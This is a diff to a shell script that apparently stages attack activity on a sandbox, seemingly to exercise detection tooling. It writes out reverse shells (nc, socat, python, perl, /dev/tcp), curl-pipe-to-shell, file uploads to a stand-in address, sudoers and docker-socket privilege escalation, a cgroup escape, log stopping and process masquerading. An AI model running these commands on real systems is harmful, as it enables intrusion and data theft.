@@ -13,10 +13,16 @@ useradd --create-home alice 2>/dev/null
 mkdir -p /srv/share /srv/borg /opt/{web,jvm,db,app/webapps} /run/sshd /var/backups /etc/udev/rules.d /etc/rsyslog.d /lib/modules/6.1
 mkdir -p /home/alice/.mozilla/firefox/x.default /home/alice/.config/autostart /tmp/repo/.git/hooks /tmp/empty
 for name in web/nginx jvm/java db/postgres; do cp /bin/bash "/opt/$name"; done
+# An address that is nobody's (RFC 5737) is made one of this machine's own: what goes "outside" never leaves it.
+ip address add 203.0.113.5/32 dev lo
 for i in $(seq 60); do echo x | tee "/srv/share/$i.docx" >"/srv/share/k$i.pdf"; done
 
 # An attack fails or is refused here as often as elsewhere; what counts is that it was tried.
-try() { timeout 20 bash -c "$1" >/dev/null 2>&1 </dev/null && echo "did: $1" || echo "did (failed): $1"; }
+try() {
+    local from=$EPOCHREALTIME
+    timeout 20 bash -c "$1" >/dev/null 2>&1 </dev/null || true
+    say_did "$from" "${1//$'\n'/ }"
+}
 # A program of this name that does nothing.
 as() { try "cp /bin/true '$1' && '$1' $2; rm -f '$1'"; }
 
@@ -55,6 +61,9 @@ try 'usermod -aG sudo alice'
 try 'echo "alice ALL=(ALL) ALL" > /etc/sudoers.d/90-x'
 try 'curl -s --unix-socket /var/run/docker.sock http://x/containers/json'
 as /usr/local/bin/docker 'run --rm -v /:/host alpine'
+# As a container runtime names its control groups.
+try "systemd-run --quiet --wait --slice=system --unit=docker-$(seq -s '' 0 9 | sha256sum | cut -c1-64) mount /dev/sdz1 /mnt"
+try 'mkdir -p /tmp/cg; echo /tmp/x > /tmp/cg/release_agent'
 # Staying
 try 'mkdir -p /etc/systemd/system-generators; cp /bin/true /etc/systemd/system-generators/net; rm /etc/systemd/system-generators/net'
 try 'echo x > /etc/systemd/system/kworker.service; rm /etc/systemd/system/kworker.service'
@@ -83,6 +92,9 @@ try 'env LD_PRELOAD=/tmp/x.so true'
 try '(exec -a "[kworker/0:1]" sleep 0.1)'
 try 'sleep 9 & mount --bind /tmp/empty /proc/$!; umount /proc/$!; kill $!'
 as /dev/shm/k
+as /usr/local/sbin/insmod /tmp/nfq.ko
+as /usr/local/sbin/bpftool 'prog load /tmp/x.o /sys/fs/bpf/x'
+as /usr/local/sbin/iptables -F
 try 'mkdir -p /tmp/.x; cp /bin/true /tmp/.x/a; /tmp/.x/a'
 try 'systemctl stop rsyslog'
 # Servers taken over
@@ -98,6 +110,13 @@ try 'python3 -c "import socket, os, pty
 s = socket.socket(); s.connect((\"127.0.0.1\", 9)); os.dup2(s.fileno(), 0); pty.spawn(\"sh\")"'
 try 'perl -e "use Socket; socket(S, PF_INET, SOCK_STREAM, 6); connect(S, sockaddr_in(9, inet_aton(\"127.0.0.1\"))) and exec(\"sh\")"'
 try 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 9 > /tmp/f'
+as /usr/local/bin/nc '-lvnp 9001'
+as /usr/local/bin/nc '-e /bin/sh 127.0.0.1 9'
+as /usr/local/bin/socat 'tcp:127.0.0.1:9 exec:/bin/sh'
+try 'exec 3<>/dev/tcp/203.0.113.5/9'
+try 'cp /bin/busybox /tmp/update; (exec -a nc /tmp/update -w 1 203.0.113.5 9); rm /tmp/update'
+try 'curl -m 1 http://203.0.113.5:4444/'
+try '/opt/jvm/java -c "exec 3<>/dev/tcp/203.0.113.5/1389"'
 try 'openssl s_client -quiet -connect 127.0.0.1:9 | /bin/sh'
 try 'echo aWQ= | base64 -d | sh'
 try 'curl -m 1 -s http://127.0.0.1:9/x | sh'
@@ -107,6 +126,7 @@ as /usr/local/bin/xmrig '-o stratum+tcp://127.0.0.1:9'
 # Data goes
 try 'tar czf /tmp/.h.tgz /home'
 as /usr/local/bin/rclone 'copy /srv/share m:b --transfers 16'
+try 'curl -m 1 -T /etc/hostname http://203.0.113.5:9/'
 try 'curl -m 1 -T /etc/hostname --resolve transfer.sh:443:127.0.0.1 https://transfer.sh/x'
 # Looking around
 try 'id; whoami; uname; hostname; ps; ss; ip a; lsblk; w; mount; lsof; uptime'
